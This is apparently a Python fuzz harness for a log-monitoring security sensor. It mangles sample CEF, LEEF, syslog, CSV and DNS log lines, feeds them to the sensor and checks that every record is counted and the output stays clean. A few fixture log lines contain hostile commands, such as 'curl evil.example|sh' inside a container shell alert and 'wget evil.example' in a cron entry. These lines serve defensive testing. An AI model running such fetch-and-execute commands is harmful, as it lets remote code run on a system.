"""Sample logs with hostile lines: every record is counted, every event is one line of ASCII JSON, nothing is raised."""

from __future__ import annotations

import functools
import gzip
import json
import random
from pathlib import Path

from edge_demist.sensor import runner as runners
from edge_demist.sensor.config import WatchConfig
from edge_demist.sensor.detect.budget import Budget
from edge_demist.sensor.detect.mapping import read_mapping
from edge_demist.sensor.runner import Runner
from tools.fuzz.values import OTHERS, spoil, spoil_bytes
from tools.sensor.fake_model import FakeModel

SAMPLES = Path(__file__).parents[2] / "tests" / "data" / "logs"
NASTY = (
    b"\x1b[31m",
    b"\r\n",
    b"\t",
    b"\0",
    b"\\x0a",
    b"\\",
    b'"',
    b"\xff\xfe",
    "\u202e".encode(),
    b"#fields\t",
    b"\\u0000",
    b"evil",
    b"\n\n\n",
    b"|",
    b"=",
    b',"',
    b"' ",
)
TEXTS = tuple(
    [line.encode() for line in lines]
    for lines in (
        [
            r"Nov 29 10:00:00 host CEF:0|V|P|1|100|Name \| x|5|src=10.0.0.1 request=http://a/evil\=1 cs1=b cs1Label=c rt=1700000000000",
            "LEEF:2.0|V|P|1|id|^|src=10.0.0.1^url=http://evil.example/a^devTime=Nov 29 2026 10:00:00",
            "LEEF:1.0|V|P|1|id|src=10.0.0.1\turl=evil.example\tusrName=a",
        ],
        [
            '10:20:05.408091526: Warning Shell in a container (user=root command=bash -c "curl evil.example|sh" pid=1)',
            'time="2026-11-29T10:00:00Z" level=info msg="x" url="http://evil.example/a?b=1" client=10.0.0.1',
            "Nov 29 10:00:00 h sudo: root : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c evil",
            "Nov 29 10:00:00 h CRON[1]: (root) CMD (wget evil.example)",
        ],
        [
            '"timestamp","query","client","note"',
            '"2026-11-29T10:00:00Z","evil.example","10.0.0.1","a ""b"" c"',
            '"2026-11-29T10:00:01Z","good.example","10.0.0.2","over',
            'two lines"',
            "2026-11-29T10:00:02Z,other.example,10.0.0.3,x",
        ],
        [
            "29-Nov-2026 10:00:00.000 queries: info: client @0x7f01 10.0.0.1#1234 (b.example): query: b.example IN A +E(0) (10.0.0.53)",
            "Nov 29 10:00:00 dnsmasq[1]: query[A] evil.example from 10.0.0.1",
            "Nov 29 10:00:00 unbound[1:0] info: 10.0.0.1 evil.example. A IN",
            '[INFO] 10.0.0.1:5353 - 1 "A IN evil.example. udp 40 false 512" NOERROR qr 80 0.001s',
        ],
    )
)
"""Lines that name their values, tables, and query logs."""
NAMES = ("dns.log", "http.log", "eve.json", "conn.1.log", "x.jsonl", "open_http.log", "access.log", "audit.log", "table.csv", "syslog")
FORMS = ("jsonl", "eve", "zeek")
MOST_LINES = 40


def sample_lines() -> list[list[bytes]]:
    """The lines of each sample log."""
    found = []
    for path in sorted(SAMPLES.iterdir()):
        raw = path.read_bytes()
        raw = gzip.decompress(raw) if raw.startswith(b"\x1f\x8b") else raw
        if path.suffix != ".md":
            found.append([line for line in raw.split(b"\n") if line][:400])
    return [*(lines for lines in found if lines), *TEXTS]


def spoiled(line: bytes, chance: random.Random) -> bytes:
    """A line with something wrong."""
    roll = chance.random()
    if roll < 0.35 and line.startswith(b"{"):
        try:
            value = json.loads(line)
            spoil(value, chance)
            return json.dumps(value, ensure_ascii=chance.random() < 0.5).encode("utf-8", "surrogatepass")
        except (ValueError, RecursionError):
            return line
    if roll < 0.6:
        at = chance.randint(0, len(line))
        return line[:at] + chance.choice(NASTY) * chance.choice((1, 1, 3, 300)) + line[at:]
    if roll < 0.7:
        return line * chance.choice((2, 50))
    if roll < 0.75:
        return str(chance.choice(OTHERS)).encode("utf-8", "surrogatepass")
    if roll < 0.77:
        return header(chance)
    if roll < 0.8:
        return b"[" * chance.choice((10, 500, 990, 5000))
    return spoil_bytes(line, chance, 400)


def header(chance: random.Random) -> bytes:
    """Header lines of Zeek, again and again, in the middle of a log."""
    names = [chance.choice((b"ts", b"uid", b"query", b"host", b"uri", b"a" * 300, b"", b"\xff")) for _ in range(chance.choice((1, 5, 300)))]
    kind = chance.choice((b"#fields", b"#fields", b"#types", b"#path", b"#separator", b"#close", b"#unset_field"))
    text = chance.choice((b"\\x09", b"\\x20", b"\\xff", b"", b"dns")) if kind in (b"#separator", b"#path") else b"\t".join(names)
    return b"\n".join([kind + b"\t" + text] * chance.choice((1, 2, 50)))


class Target:
    """A case is a folder of one or two logs, read once by ``watch`` with a model that costs nothing."""

    weight = 1

    def __init__(self, folder: Path) -> None:
        """Read the samples; the mapping of the sensor is read once, not for each case."""
        self.folder, self.samples = folder, sample_lines()
        runners.read_mapping = functools.cache(read_mapping)  # type: ignore[attr-defined]

    def write(self, seed: int) -> random.Random:
        """Write the logs of a case."""
        chance = random.Random(seed)
        logs = self.folder / "logs"
        logs.mkdir(exist_ok=True)
        for old in logs.iterdir():
            old.unlink()
        for name in chance.sample(NAMES, chance.choice((1, 1, 2))):
            lines = chance.choice(self.samples)
            head = [line for line in lines[:9] if line.startswith(b"#")]
            begin = chance.randrange(len(lines))
            body = [*head, *lines[begin : begin + chance.randint(1, MOST_LINES)]]
            raw = b"\n".join(spoiled(line, chance) if chance.random() < 0.4 else line for line in body) + b"\n" * chance.randint(0, 1)
            roll = chance.random()
            packed = ".gz" if roll < 0.1 else ""
            raw = gzip.compress(raw, 1, mtime=0) if packed else raw
            if roll < 0.03:
                raw = spoil_bytes(raw, chance)
            (logs / f"{name}{packed}").write_bytes(raw)
        return chance

    def run(self, seed: int) -> str:
        """Watch them."""
        chance = self.write(seed)
        output, form = self.folder / "out", chance.choice(FORMS)
        settings = {"paths": (self.folder / "logs",), "once": True, "output": output, "form": form, "summary": self.folder / "summary.json"}
        settings |= {"emit": chance.choice(("all", "alarms")), "budget": Budget({"*": 5}) if chance.random() < 0.3 else Budget()}
        if form != "zeek" and chance.random() < 0.3:
            settings |= {"emit": "incidents", "incidents_per_day": chance.choice((0, 1, 5))}
        runner = Runner(WatchConfig(**settings), FakeModel)  # type: ignore[arg-type]
        try:
            runner.run()
        finally:
            runner.close()
        summary = json.loads((self.folder / "summary.json").read_text())
        told = settings["emit"] == "incidents"  # records make incidents, not events
        if not told and summary["records"] != summary["records_out"] + sum(summary["skipped"].values()):
            return "BAD records are not accounted for"
        if "failed" in summary["skipped"]:
            return f"BAD {summary['messages'][0].partition(': ')[2][:80]}"
        for line in output.read_bytes().splitlines():
            if not line.isascii() or any(byte < 0x20 and byte != 9 for byte in line):
                return "BAD a control character in the output"
            if form != "zeek":
                json.loads(line)
        return "read"
